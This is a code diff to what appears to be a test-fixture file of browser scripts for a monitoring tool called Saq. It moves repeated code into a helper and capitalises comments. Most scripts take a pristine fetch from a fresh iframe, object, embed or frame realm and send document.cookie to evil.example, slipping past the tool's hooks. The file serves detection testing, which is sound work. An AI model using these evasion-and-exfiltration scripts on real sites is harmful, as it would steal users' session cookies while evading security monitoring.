@@ -88,6 +88,20 @@ export const SHOP_FRAME = `const frame = (name) => {
     return new Promise((resolve) => (f.onload = () => resolve(f)));
   };`;
 
+/**
+ * Page code: gives `frame` a new realm by a srcdoc navigation, and at its load (the first with the srcdoc there:
+ * Firefox may load a replacement of a frame's first about:blank document before it) sends the cookie with that
+ * realm's fetch, taken by `win` — a frame accessor Saq does not hook.
+ */
+const sendAtSrcdocLoad = (frame: string, win: string, path: string): string => `let sent = false;
+  ${frame}.addEventListener('load', () => {
+    const clean = ${win};
+    if (sent || clean.location.href !== 'about:srcdoc') return;
+    sent = true;
+    clean.fetch('https://evil.example/${path}?c=' + encodeURIComponent(document.cookie));
+  });
+  ${frame}.srcdoc = '<p>reloaded</p>';`;
+
 export const MAIN_WORLD_SCRIPTS = {
   /**
    * Scripts inserted empty and given their code afterwards, each a way that ran unreported: an address written
@@ -1279,14 +1293,7 @@ export const MAIN_WORLD_SCRIPTS = {
   holder.innerHTML = '<iframe style="display:none"></iframe>';
   const frame = holder.firstChild;
   const index = window.length - 1;
-  let sent = false;
-  frame.addEventListener('load', () => {
-    // Firefox may load a replacement of the frame's first about:blank document before the srcdoc one.
-    if (sent || window[index].location.href !== 'about:srcdoc') return;
-    sent = true;
-    window[index].fetch('https://evil.example/reloaded?c=' + encodeURIComponent(document.cookie));
-  });
-  frame.srcdoc = '<p>reloaded</p>';
+  ${sendAtSrcdocLoad('frame', 'window[index]', 'reloaded')}
 })();`,
 
   /**
@@ -1301,13 +1308,7 @@ export const MAIN_WORLD_SCRIPTS = {
   root.innerHTML = '<iframe style="display:none"></iframe>';
   const frame = root.firstChild;
   const proxy = frame.contentWindow;
-  let sent = false;
-  frame.addEventListener('load', () => {
-    if (sent || proxy.location.href !== 'about:srcdoc') return;
-    sent = true;
-    proxy.fetch('https://evil.example/shadow-reloaded?c=' + encodeURIComponent(document.cookie));
-  });
-  frame.srcdoc = '<p>reloaded</p>';
+  ${sendAtSrcdocLoad('frame', 'proxy', 'shadow-reloaded')}
 })();`,
 
   /**
@@ -1321,17 +1322,10 @@ export const MAIN_WORLD_SCRIPTS = {
   const index = window.length - 1;
   const inner = window[index].document.createElement('iframe');
   window[index].document.body.appendChild(inner);
-  let sent = false;
-  inner.addEventListener('load', () => {
-    const clean = window[index][0];
-    if (sent || clean.location.href !== 'about:srcdoc') return;
-    sent = true;
-    clean.fetch('https://evil.example/nested-reloaded?c=' + encodeURIComponent(document.cookie));
-  });
-  inner.srcdoc = '<p>reloaded</p>';
+  ${sendAtSrcdocLoad('inner', 'window[index][0]', 'nested-reloaded')}
 })();`,
 
-  /** an <object> browsing context (about:blank): its window taken by contentWindow at its load. */
+  /** An <object> browsing context (about:blank): its window taken by contentWindow at its load. */
   'pristine-object': `(() => {
   const object = document.createElement('object');
   object.type = 'text/html';
@@ -1343,7 +1337,7 @@ export const MAIN_WORLD_SCRIPTS = {
   document.body.appendChild(object);
 })();`,
 
-  /** an <embed> browsing context (about:blank): its window taken by window[n] once it is there. */
+  /** An <embed> browsing context (about:blank): its window taken by window[n] once it is there. */
   'pristine-embed': `(() => {
   const embed = document.createElement('embed');
   embed.type = 'text/html';
@@ -1358,14 +1352,14 @@ export const MAIN_WORLD_SCRIPTS = {
   poll();
 })();`,
 
-  /** a <frame> put in the body (no frameset needed): it gets a browsing context, reached by window[n]. */
+  /** A <frame> put in the body (no frameset needed): it gets a browsing context, reached by window[n]. */
   'pristine-frame-element': `(() => {
   document.body.appendChild(document.createElement('frame'));
   const clean = window[window.length - 1];
   setTimeout(() => clean.fetch('https://evil.example/pristine-frame-element?c=' + encodeURIComponent(document.cookie)), 300);
 })();`,
 
-  /** an iframe made by execCommand('insertHTML') in an editable element, reached by window[n] at once. */
+  /** An iframe made by execCommand('insertHTML') in an editable element, reached by window[n] at once. */
   'pristine-inserthtml': `(() => {
   const editor = document.createElement('div');
   editor.contentEditable = 'true';
@@ -1394,17 +1388,10 @@ export const MAIN_WORLD_SCRIPTS = {
   doc.write('<iframe></iframe>');
   doc.close();
   const inner = doc.querySelector('iframe');
-  let sent = false;
-  inner.addEventListener('load', () => {
-    const clean = window[index][0];
-    if (sent || clean.location.href !== 'about:srcdoc') return;
-    sent = true;
-    clean.fetch('https://evil.example/pristine-reopened-nested?c=' + encodeURIComponent(document.cookie));
-  });
-  inner.srcdoc = '<p>reloaded</p>';
+  ${sendAtSrcdocLoad('inner', 'window[index][0]', 'pristine-reopened-nested')}
 })();`,
 
-  /** a frame navigated to srcdoc, its new realm's fetch taken by polling window[n] before the frame's load. */
+  /** A frame navigated to srcdoc, its new realm's fetch taken by polling window[n] before the frame's load. */
   'pristine-polled-srcdoc': `(() => {
   const frame = document.createElement('iframe');
   frame.style.display = 'none';
@@ -1418,7 +1405,7 @@ export const MAIN_WORLD_SCRIPTS = {
   poll();
 })();`,
 
-  /** a frame the srcdoc's parser makes inside a srcdoc frame, reached by window[n][0] at the outer load. */
+  /** A frame the srcdoc's parser makes inside a srcdoc frame, reached by window[n][0] at the outer load. */
   'pristine-srcdoc-parsed-frame': `(() => {
   const frame = document.createElement('iframe');
   frame.style.display = 'none';
@@ -1434,7 +1421,7 @@ export const MAIN_WORLD_SCRIPTS = {
 })();`,
 
   /**
-   * a srcdoc frame in a declarative shadow root (setHTMLUnsafe): its script posts a message, and the
+   * A srcdoc frame in a declarative shadow root (setHTMLUnsafe): its script posts a message, and the
    * helper takes fetch from the event's source, reading no frame accessor.
    */
   'pristine-declarative-shadow': `(() => {
@@ -1448,7 +1435,7 @@ export const MAIN_WORLD_SCRIPTS = {
   host.setHTMLUnsafe('<div><template shadowrootmode="closed"><iframe style="display:none" srcdoc="<script>parent.postMessage(&quot;pristine-declarative-shadow&quot;, &quot;*&quot;)<\\/script>"></iframe></template></div>');
 })();`,
 
-  /** like 'pristine-reopened-nested', the outer document opened implicitly by document.write once it has loaded. */
+  /** Like 'pristine-reopened-nested', the outer document opened implicitly by document.write once it has loaded. */
   'pristine-rewritten-nested': `(() => {
   const outer = document.createElement('iframe');
   outer.style.display = 'none';
@@ -1459,18 +1446,11 @@ export const MAIN_WORLD_SCRIPTS = {
     doc.write('<iframe></iframe>');
     doc.close();
     const inner = doc.querySelector('iframe');
-    let sent = false;
-    inner.addEventListener('load', () => {
-      const clean = window[index][0];
-      if (sent || clean.location.href !== 'about:srcdoc') return;
-      sent = true;
-      clean.fetch('https://evil.example/pristine-rewritten-nested?c=' + encodeURIComponent(document.cookie));
-    });
-    inner.srcdoc = '<p>reloaded</p>';
+    ${sendAtSrcdocLoad('inner', 'window[index][0]', 'pristine-rewritten-nested')}
   }, 200);
 })();`,
 
-  /** a srcdoc frame sent to about:blank by its location; the new realm polled for before its load. */
+  /** A srcdoc frame sent to about:blank by its location; the new realm polled for before its load. */
   'pristine-polled-navigation': `(() => {
   const frame = document.createElement('iframe');
   frame.style.display = 'none';
@@ -1493,7 +1473,7 @@ export const MAIN_WORLD_SCRIPTS = {
   frame.srcdoc = '<p>first</p>';
 })();`,
 
-  /** a named srcdoc frame given a new realm by a form submitted to about:blank; fetch taken at its load. */
+  /** A named srcdoc frame given a new realm by a form submitted to about:blank; fetch taken at its load. */
   'pristine-form-target': `(() => {
   const frame = document.createElement('iframe');
   frame.name = 'helperform';
